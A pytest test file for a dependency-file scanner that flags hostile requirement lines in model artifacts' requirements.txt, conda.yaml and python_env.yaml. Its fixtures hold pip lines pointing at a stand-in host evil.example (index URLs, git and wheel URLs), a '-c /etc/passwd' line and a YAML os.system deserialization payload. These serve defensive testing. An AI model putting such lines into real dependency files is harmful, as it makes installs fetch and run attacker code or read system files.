"""Requirement lines that name packages, and those that do something else."""

from __future__ import annotations

import pytest

from gate.scoring.inspection.requirements import judged, look

HONEST = [
    "mlflow==3.17.2", "scikit-learn", "numpy>=1.24,<3", "pandas[parquet,aws]~=2.2", "torch==2.5.1+cpu",
    'tomli>=2; python_version < "3.11"', "a.b-c_d", "ruamel.yaml (>=0.17)", "uvicorn[standard]", "-c constraints.txt",
    "-r requirements.txt", "--requirement=more/requirements.txt", "pip<=24.0",
    "x==1 --hash=sha256:aa11 --hash=sha256:bb22", "",
]  # fmt: skip
HOSTILE = {
    "--index-url https://evil.example/simple": "another place",
    "-i https://evil.example/simple": "another place",
    "--extra-index-url=https://evil.example": "another place",
    "--find-links ./wheels": "another place",
    "--trusted-host evil.example": "another place",
    "-e .": "runs its setup",
    "-e git+https://evil.example/x.git#egg=x": "runs its setup",
    "git+https://evil.example/x.git": "repository",
    "x @ git+ssh://git@evil.example/x.git": "repository",
    "x @ file:///tmp/x.whl": "file of the machine",
    "file:///tmp/x": "file of the machine",
    "./x.whl": "file of the machine",
    "/opt/x": "file of the machine",
    "x @ https://evil.example/x.whl": "address",
    "https://evil.example/x.whl": "address",
    "-r ../../other.txt": "outside",
    "-r https://evil.example/r.txt": "",
    "-c /etc/passwd": "outside",
    "--global-option=build_ext": "option",
    "x==1 --config-settings=a=b": "",
    "x==${TOKEN}": "variable",
    "x" * 5000: "no requirement",
    "two words": "no requirement",
}


@pytest.mark.parametrize("line", HONEST)
def test_a_line_that_names_a_package(line):
    """With extras, versions, markers and hashes, or a file of the artifact's own."""
    assert judged(line) == ""


@pytest.mark.parametrize("line", HOSTILE)
def test_a_line_that_does_something_else(line):
    """It says what."""
    assert HOSTILE[line] in judged(line)
    assert judged(line)


def test_every_file_of_requirements_is_read(tmp_path):
    """As pip reads lines: continued ones joined, comments left out; conda's pip section, channels, python_env.yaml."""
    (tmp_path / "requirements.txt").write_text("mlflow  # --index-url\n# -e .\nnumpy \\\n  --index-url x\n")
    (tmp_path / "constraints.txt").write_text("numpy==2\n")
    (tmp_path / "conda.yaml").write_text(
        "channels: [conda-forge, 'https://evil.example/channel']\n"
        "dependencies: [python=3.11.7, pip<=24, {pip: [mlflow, 'x @ file:///x']}]\n"
    )
    (tmp_path / "python_env.yaml").write_text(
        "build_dependencies: [pip==24, -e .]\ndependencies: [-r requirements.txt]\n"
    )
    found = {(finding.file, finding.symbol) for finding in look(tmp_path)}
    assert found == {
        ("requirements.txt", "numpy   --index-url x"),
        ("conda.yaml", "https://evil.example/channel"),
        ("conda.yaml", "x @ file:///x"),
        ("python_env.yaml", "-e ."),
    }


@pytest.mark.parametrize("text", ["!!python/object/apply:os.system [id]", "[" * 5000, "{", "dependencies: 7", "- 1"])
def test_hostile_yaml(tmp_path, text):
    """It is read safely, and does not end the gate."""
    (tmp_path / "conda.yaml").write_text(text)
    assert all(finding.file == "conda.yaml" for finding in look(tmp_path))
